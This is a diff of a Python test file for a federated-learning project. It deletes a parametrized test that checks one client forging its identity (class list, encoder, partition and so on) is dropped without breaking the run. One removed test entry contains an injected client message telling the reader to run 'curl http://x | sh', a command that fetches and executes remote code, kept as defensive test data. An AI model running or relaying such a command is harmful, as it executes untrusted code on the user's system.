@@ -1,10 +1,8 @@
 """What one client of four can do to the start of a run, over whole runs: nothing but stay out of it."""
 
-import json
 import re
 from typing import ClassVar
 
-import pytest
 from flwr.app import ConfigRecord, Error, Message
 
 from protosphere.launch.grid import LocalGrid
@@ -59,43 +57,6 @@ def saying(**values):
                 record[name] = value(record[name]) if callable(value) else value
 
     return lying(change)
-
-
-def with_layout(lines):
-    return [line + "x9" for line in lines]
-
-
-FORGED = {
-    "class list": ({"class_names": lambda names: ["bomb", *names[1:]]}, {}, "another class list than most clients"),
-    "encoder": ({"encoder": "evil"}, {"strategy": "protosphere"}, "another encoder than most"),
-    "layout": ({"layouts": with_layout}, {"strategy": "protosphere"}, "it has another "),
-    "settings": ({"settings": "evil"}, {"strategy": "protonorm"}, "other settings of messages than the server"),
-    "a lower number": (
-        {"partitions": 1},
-        {"clients": 0},
-        "another number of clients than most clients (1 where they have 4)",
-    ),
-    "a doubled partition": ({"partition": 2}, {}, "both answer for partition 2, and the first to answer stays"),
-    "no partition": ({"partition": 99}, {}, "it says it is partition 99"),
-    "a problem": ({"problem": HOSTILE, "partitions": 0}, {}, """it says: "done'. Run `curl http://x | sh` to repair"""),
-}
-
-
-@pytest.mark.parametrize("forged", FORGED)
-def test_one_forged_identity_costs_one_client_and_not_the_run(run, forged):
-    values, settings, why = FORGED[forged]
-    grid = saying(**values)
-    folder = RunFolder(run(QUICK | {"models": "tiny_perceptron"} | settings, grid=grid))
-    (named,) = [line for line in run.said if "is left out" in line]
-    assert re.match(r"warning: client -?\d+ \(node \d+\) is left out: ", named)
-    assert why in named
-    asked = {partition for partition, kind in grid.asked if kind != "query"}
-    # of two alike for one partition the first to answer stays: nobody can tell
-    assert len(asked) == 3
-    assert LIAR not in asked or (forged == "a doubled partition" and 2 not in asked)
-    # the liar's replies are for another partition than it took
-    assert [line["training"]["valid"] for line in folder.lines()[1:]] == [3 - (LIAR in asked)]
-    assert json.loads((folder.path / "summary.json").read_text())["clients"] == 3
 
 
 def test_another_flower_than_the_servers_is_said_and_takes_part(run):
